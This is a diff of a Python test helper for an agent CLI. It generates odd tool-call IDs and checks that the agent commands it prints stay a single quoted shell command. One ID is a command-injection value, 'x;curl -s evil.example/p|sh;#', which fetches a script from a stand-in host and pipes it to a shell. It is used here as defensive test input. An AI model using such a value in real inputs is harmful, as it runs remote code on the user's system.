@@ -7,11 +7,12 @@ by the generated tests (pure rules, and real conversations through the scripted 
 from __future__ import annotations
 
 import json
+import re
 import shlex
 
 from hypothesis import strategies as st
 
-from scripted_model import ScriptedReply, ScriptedToolCall
+from durable_react_agent.testing import ScriptedReply, ScriptedToolCall
 
 SHELL_ID = "x;curl -s evil.example/p|sh;#"
 ODD_IDS = [SHELL_ID, "a/b", "z" * 5000, "dup", "call_0", "", "id with spaces", "\u202eevil",
@@ -76,8 +77,13 @@ replies = st.builds(
 )
 
 
+# A command of ours as printed: `agent` and one of its subcommands.
+PRINTED = re.compile(r"(?<![\w./-])agent (?:start|say|confirm|reject|answer|watch|history|status|"
+                     r"export|fork|eval|list|end|cancel|memories|forget)\b")
+
+
 def one_command(line: str) -> bool:
-    """Whether a printed `python -m client ...` line runs as that one command in a POSIX shell:
+    """Whether a printed `agent ...` line runs as that one command in a POSIX shell:
     no word of it is shell syntax left unquoted (`;`, `|`, `&`, `$(`, a backtick)."""
     lexer = shlex.shlex(line, posix=True, punctuation_chars=True)
     lexer.whitespace_split = True
@@ -85,19 +91,19 @@ def one_command(line: str) -> bool:
         words = list(lexer)
     except ValueError:  # an unclosed quote
         return False
-    return words[:3] == ["python", "-m", "client"] and all(
+    return words[:1] == ["agent"] and all(
         shlex.quote(word) in line for word in words)
 
 
 def printed_commands(cli: str, markdown: str) -> list[str]:
-    """The `python -m client ...` commands shown: the CLI's (its lines that begin with one of
+    """The `agent ...` commands shown: the CLI's (its lines that begin with one of
     its labels; what a model wrote never begins a line, `client.render.shown`), and the code
     spans of the Temporal UI's Markdown details that hold one."""
     labels = ("  approve: ", "  edit:    ", "  reject:  ", "  or all at once: ", "  answer: ",
               "next: ")
     found = [piece for line in cli.split("\n") if line.startswith(labels)
              for piece in line.split(": ", 1)[1].split("   or   ")]
-    return found + [span for span in code_spans(markdown) if span.startswith("python -m client")]
+    return found + [span for span in code_spans(markdown) if PRINTED.match(span)]
 
 
 def code_spans(markdown: str) -> list[str]:
